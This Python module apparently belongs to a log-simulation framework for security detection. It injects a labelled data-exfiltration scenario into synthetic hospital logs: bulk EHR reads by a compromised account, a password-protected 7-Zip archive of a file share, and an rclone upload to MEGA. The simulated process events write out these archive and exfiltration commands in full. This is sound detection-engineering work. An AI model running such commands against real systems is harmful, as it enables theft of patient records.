"""Data exfiltration by a compromised account: evening bulk EHR reads, archive, upload to the cloud."""

from __future__ import annotations

import random

from garde.simulate.context import Ctx
from garde.simulate.emitters import cef, fhir, fortigate, sysmon, windows
from garde.simulate.scenarios.base import Label, Rec, Scenario

MEGA = "g.api.mega.co.nz"
MEGA_IP = "89.44.169.135"
MINUTE = 60_000


def inject(ctx: Ctx, at: int, rng: random.Random) -> Label:
    label = Label(
        "exfiltration",
        "A compromised office account bulk-reads records, archives shares and uploads them",
        ("T1078", "T1213", "T1560.001", "T1567.002"),
    )
    rec = Rec(label)
    org = ctx.org
    off = ctx.day.utc_offset_s
    victim = rng.choice([p for p in org.by_role["administration"] if p.host])
    ws = org.hosts[victim.host]
    label.users.add(victim.user)
    label.hosts.add(ws.fqdn)
    label.ips |= {ws.ip, MEGA_IP}
    label.entity("domains", MEGA)
    lid = ctx.logon_id()
    rec(
        "winsec",
        at,
        windows.logon(ctx.sec, at, ws.fqdn, victim.user, victim.sid, 10, "10.20.250.17", lid, "DESKTOP-UNKNOWN"),
    )
    t = at + 3 * MINUTE
    name = f"{victim.first} {victim.last}"
    for patient_id, _n, _d in rng.sample(org.patients, min(len(org.patients), 250)):
        rec(
            "ehr_fhir",
            t,
            fhir.access(
                ctx.fhr,
                t,
                victim.user,
                name,
                "administration",
                victim.dept,
                ws.ip,
                patient_id,
                "Patient",
                "search-type",
            ),
        )
        t += rng.randrange(800, 4000)
        flag = org.confidentiality(patient_id)
        read = fhir.access(
            ctx.fhr,
            t,
            victim.user,
            name,
            "administration",
            victim.dept,
            ws.ip,
            patient_id,
            "Patient",
            "read",
            confidentiality=flag,
        )
        rec("ehr_fhir", t, read)
        t += rng.randrange(500, 2500)
    seven = r"C:\Program Files\7-Zip\7z.exe"
    archive = rf"C:\Users\Public\Documents\sauvegarde-{ctx.day.day:%Y%m%d}.7z"
    pid = ctx.pid()
    rec(
        "sysmon",
        t,
        sysmon.process(
            ctx.smn,
            t,
            ws.fqdn,
            victim.user,
            seven,
            f'"{seven}" a -t7z -mx1 -pChuDemo2026! {archive} \\\\srv-fs01.chu-demo.local\\direction\\*',
            r"C:\Windows\System32\cmd.exe",
            pid,
        ),
    )
    rec(
        "sysmon",
        t + 9 * MINUTE,
        sysmon.file_created(ctx.smn, t + 9 * MINUTE, ws.fqdn, victim.user, seven, archive, pid),
    )
    t += 10 * MINUTE
    rclone = r"C:\Users\Public\Documents\rclone.exe"
    rpid = ctx.pid()
    rec(
        "sysmon",
        t,
        sysmon.process(
            ctx.smn,
            t,
            ws.fqdn,
            victim.user,
            rclone,
            f"rclone.exe copy {archive} mega:sauvegarde --transfers 8 --no-check-certificate -q",
            r"C:\Windows\System32\cmd.exe",
            rpid,
        ),
    )
    rec(
        "sysmon",
        t + 2000,
        sysmon.netconn(
            ctx.smn,
            t + 2000,
            ws.fqdn,
            victim.user,
            rclone,
            ws.ip,
            "10.10.0.80",
            8080,
            "srv-proxy01.chu-demo.local",
            rpid,
        ),
    )
    for _k in range(40):
        chunk = rng.randrange(20, 60) * 1_000_000
        rec(
            "proxy",
            t,
            cef.proxy(
                ctx.pxy,
                t,
                victim.user,
                ws.ip,
                "POST",
                f"https://{MEGA}/ul/chunk?c={t % 99991}",
                MEGA,
                200,
                MEGA_IP,
                chunk,
                350,
                "File Sharing and Storage",
                agent="rclone/v1.68.1",
            ),
        )
        rec(
            "firewall",
            t + 50,
            fortigate.traffic(
                ctx.fw,
                t + 50,
                off,
                "10.10.0.80",
                40000 + t % 20000,
                MEGA_IP,
                443,
                "close",
                "HTTPS",
                chunk,
                9000,
                12,
                dst_country="New Zealand",
                app="MEGA",
                duration=40,
            ),
        )
        t += rng.randrange(30 * 1000, 90 * 1000)
    rec("winsec", t + MINUTE, windows.logoff(ctx.sec, t + MINUTE, ws.fqdn, victim.user, victim.sid, 10, lid))
    return label


SCENARIO = Scenario(
    "exfiltration", "evening bulk EHR reads, 7-Zip archive, rclone upload to MEGA", (19.5, 22.0), inject
)
